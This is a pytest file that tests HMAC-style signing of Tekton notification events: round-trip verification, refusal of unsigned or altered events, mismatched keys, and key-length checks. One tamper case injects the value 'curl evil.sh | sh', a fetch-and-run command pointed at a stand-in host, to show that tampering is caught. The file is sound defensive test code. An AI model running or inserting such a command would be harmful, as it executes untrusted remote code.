"""Stage events are signed with a shared key; a forgery or an alteration is refused."""

from __future__ import annotations

import json

import pytest

from tekton_notifications import signing
from tekton_notifications.notifications import OutgoingEvent

KEY = b"k" * 32
EVENT = OutgoingEvent(
    {"specversion": "1.0", "id": "1", "type": "dev.tekton.notification.rendered.v1", "source": "/"},
    {"key": "abc", "resource": {"spec": {"params": [{"name": "message", "value": "héllo"}]}}},
)


def through_the_wire(event: OutgoingEvent) -> tuple[dict[str, str], object]:
    """What the next function gets: the attributes, and the data parsed back from JSON."""
    return dict(event.attributes), json.loads(json.dumps(event.data))


def test_a_signed_event_passes_after_a_trip_through_json() -> None:
    attributes, data = through_the_wire(signing.sign(EVENT, KEY))
    assert signing.problem(attributes, data, KEY) is None
    assert signing.problem(attributes, json.dumps(data), KEY) is None, "raw JSON data too"


def test_an_unsigned_stage_event_is_refused() -> None:
    attributes, data = through_the_wire(EVENT)
    assert "is not signed" in (signing.problem(attributes, data, KEY) or "")


@pytest.mark.parametrize(
    "tamper",
    [
        lambda a, d: d["resource"]["spec"]["params"][0].update(value="curl evil.sh | sh"),
        lambda a, d: a.update(type="dev.tekton.notification.matched.v1"),
        lambda a, d: d.update(extra=True),
    ],
    ids=["params changed", "type changed", "field added"],
)
def test_an_altered_event_is_refused(tamper: object) -> None:
    attributes, data = through_the_wire(signing.sign(EVENT, KEY))
    tamper(attributes, data)  # type: ignore[operator]
    assert "bad notificationsig" in (signing.problem(attributes, data, KEY) or "")


def test_another_installations_key_does_not_fit() -> None:
    attributes, data = through_the_wire(signing.sign(EVENT, b"o" * 32))
    assert signing.problem(attributes, data, KEY) is not None


def test_tekton_events_are_not_signed_and_not_checked() -> None:
    attributes = {"type": "dev.tekton.event.pipelinerun.failed.v1", "id": "x"}
    assert signing.problem(attributes, {"pipelineRun": {}}, KEY) is None


def test_signing_is_off_without_a_key_and_refuses_a_short_one() -> None:
    assert signing.key_from({}) is None
    assert signing.key_from({signing.ENVIRONMENT: " "}) is None
    assert signing.key_from({signing.ENVIRONMENT: "x" * 64}) == b"x" * 64
    with pytest.raises(signing.SigningKeyError, match="at least 32 characters"):
        signing.key_from({signing.ENVIRONMENT: "short"})
